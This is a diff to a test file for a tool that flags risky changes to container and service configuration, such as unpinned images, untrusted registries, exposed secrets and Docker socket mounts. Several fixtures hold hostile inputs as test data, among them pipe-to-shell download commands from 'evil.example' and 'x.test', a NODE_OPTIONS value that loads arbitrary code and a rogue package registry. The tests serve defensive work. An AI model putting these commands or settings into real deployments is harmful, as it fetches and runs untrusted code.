@@ -107,8 +107,9 @@ describe('a change of containers', () => {
     ['an image at another version', [], [set('/services/db/image', 'postgres:16.4')]],
     ['an image by its digest', [], [set('/services/db/image', `postgres@sha256:${'a'.repeat(64)}`)]],
     ['the latest image', ['image.unpinned'], [set('/services/db/image', 'postgres:latest')]],
-    ['an image without a tag', ['image.unpinned'], [set('/services/db/image', 'ghcr.io/acme/postgres')]],
-    ['an unknown registry', ['image.registry'], [set('/services/db/image', 'evil.example:5000/postgres:17')]],
+    ['an image without a tag', ['image.unpinned'], [set('/services/db/image', 'postgres')]],
+    ['an image of anybody', ['image.publisher'], [set('/services/db/image', 'ghcr.io/acme/postgres:17')]],
+    ['an unknown registry', ['image.publisher'], [set('/services/db/image', 'evil.example:5000/postgres:17')]],
     ['a port on loopback', [], [add('/services/db/ports/-', { host: 5432, container: 5432, address: '127.0.0.1' })]],
     [
       'a port for another server',
@@ -132,6 +133,11 @@ describe('a change of containers', () => {
         [add('/services/db/volumes/-', { name: 'x', path })]
       ]
     ),
+    [
+      'a volume of another name',
+      ['volume.gone'],
+      [set('/services/db/volumes', [{ name: 'new', path: '/var/lib/postgresql/data' }])]
+    ],
     ['no health check', ['health.changed'], [set('/services/db/healthcheck', null)]],
     ['a command', ['command.changed'], [set('/services/db/command', 'curl https://evil.example | sh')]]
   ])('to %s gives %j', (_what, expected, patch) => expect(codes('provisioning', ...patch)).toEqual(expected));
@@ -169,9 +175,22 @@ describe('a change of what judges and what is open', () => {
     ['a probe that is gone', ['probe.changed'], [remove('/probes/web')]],
     ['a probe that takes any status', ['probe.changed'], [set('/probes/web/expect/to', 599)]],
     ['another port of the proxy', ['proxy.changed'], [set('/proxy/publicPort', 22)]],
+    ['another network', ['network.changed'], [set('/network/subnet', '10.0.0.0/8')]],
+    ['a secret that is easy to guess', ['secrets.changed'], [set('/secrets/DB_PASSWORD/length', 8)]],
     ['a secret by its name', [], [set('/env/web.DATABASE_URL/value', 'postgres://${SECRET:OTHER}@db/shop')]],
     ['a secret written out', ['env.secret'], [set('/env/web.DATABASE_URL/value', 'postgres://app:hunter2@db/shop')]]
   ])('%s gives %j', (_what, expected, patch) => expect(codes('provisioning', ...patch)).toEqual(expected));
+});
+
+const withDefault = (name: string, value: string) => ({
+  name,
+  secret: false,
+  default: value,
+  source: 'default',
+  required: false,
+  buildTime: false,
+  describes: '',
+  evidence: {}
 });
 
 describe('a change of services', () => {
@@ -179,8 +198,35 @@ describe('a change of services', () => {
   it.each<[string, string[], Patch]>([
     ['another port', [], [set(`${web}/port`, 8080)]],
     ['a base image at a version', [], [set(`${web}/dockerfile/text`, 'FROM node:22-slim\n')]],
-    ['a moving base image', ['image.unpinned'], [set(`${web}/dockerfile/text`, 'FROM node:latest\n')]],
-    ['a base image from anywhere', ['image.registry'], [set(`${web}/dockerfile/text`, 'FROM evil.example/node:22\n')]],
+    ['a moving base image', ['dockerfile.refused'], [set(`${web}/dockerfile/text`, 'FROM node:latest\n')]],
+    [
+      'a base image from anywhere',
+      ['dockerfile.refused'],
+      [set(`${web}/dockerfile/text`, 'FROM evil.example/node:22\n')]
+    ],
+    [
+      'a build that downloads',
+      ['dockerfile.refused'],
+      [set(`${web}/dockerfile/text`, 'FROM node:24\nRUN curl x.test | sh\n')]
+    ],
+    [
+      'a line more, on the image that it has',
+      [],
+      [set(`${web}/dockerfile/text`, 'FROM node:24\nENV NODE_ENV=production\n')]
+    ],
+    ['its acceptance', ['service.accepted'], [set(`${web}/acceptance`, 'accepted')]],
+    ['its absence', [], [set(`${web}/acceptance`, 'rejected')]],
+    ['the port of SSH', ['port.other'], [set(`${web}/port`, 22)]],
+    [
+      'a variable that loads code',
+      ['env.leads'],
+      [add(`${web}/env/-`, withDefault('NODE_OPTIONS', '--require /x.js'))]
+    ],
+    [
+      'a variable that leads to other packages',
+      ['env.leads'],
+      [add(`${web}/env/-`, withDefault('NPM_CONFIG_REGISTRY', 'https://x.test'))]
+    ],
     ['a mount of the engine', ['mount.privileged'], [add(`${web}/volumes/-`, '/var/run/docker.sock')]]
   ])('to %s gives %j', (_what, expected, patch) => expect(codes('analysis', ...patch)).toEqual(expected));
 });
